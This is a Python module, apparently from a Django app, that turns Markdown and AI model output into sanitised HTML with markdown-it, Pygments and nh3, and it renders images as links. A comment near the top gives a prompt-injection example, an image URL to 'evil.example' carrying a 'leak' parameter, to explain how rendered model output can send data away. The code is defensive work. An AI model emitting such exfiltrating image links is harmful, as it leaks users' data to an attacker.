"""Markdown to safe HTML, server-side: model output and user text can never run script in the browser.

markdown-it renders (raw HTML disabled), Pygments highlights code, and nh3 (ammonia) keeps only an allow-list of
tags, attributes and URL schemes — so a ``<script>``, an ``onerror`` or a ``javascript:`` link is gone even if the
renderer let something through.
"""

from __future__ import annotations

from functools import cache
from typing import Any

import nh3
from django.utils.html import escape
from markdown_it import MarkdownIt
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

# No <img>: a browser fetches an image from any host by itself, so an image in model output (a prompt injection's
# ``![x](https://evil.example/p.png?leak=…)``) or in a notice would send data away. Images become links instead.
ALLOWED_TAGS = {
    "p", "br", "hr", "em", "strong", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "span", "div",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "span": {"class"},
    "div": {"class"},
    "code": {"class"},
    "pre": {"class"},
    "th": {"style"},
    "td": {"style"},
    "ol": {"start"},
}
_FORMATTER = HtmlFormatter(nowrap=True, classprefix="hl-")


def _highlight(code: str, lang: str, attrs: str) -> str:
    try:
        lexer = get_lexer_by_name(lang.strip()) if lang.strip() else None
    except ClassNotFound:
        lexer = None
    if lexer is None:
        return ""  # markdown-it escapes the code itself
    return highlight(code, lexer, _FORMATTER)


def _image_as_link(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """``![alt](url)`` as a link the person may choose to open, never an image the browser fetches by itself."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env) or src
    return f'<a href="{escape(src)}" title="{escape(src)}">🖼 {escape(alt)}</a>'


@cache
def _markdown() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight})
    md.enable(["table", "strikethrough"])
    md.add_render_rule("image", _image_as_link)
    return md


def _attribute_filter(tag: str, attr: str, value: str) -> str | None:
    if attr == "style":
        # Table alignment only.
        return value if value in ("text-align:left", "text-align:right", "text-align:center") else None
    if attr == "class":
        return " ".join(c for c in value.split() if c.startswith(("hl-", "language-"))) or None
    return value


def render_markdown(text: str) -> str:
    html = _markdown().render(text)
    return nh3.clean(
        html,
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
        attribute_filter=_attribute_filter,
        strip_comments=True,
    )


def render_plain(text: str) -> str:
    """User messages: shown as typed (escaped, line breaks kept), never interpreted as Markdown."""
    return str(escape(text)).replace("\n", "<br>")
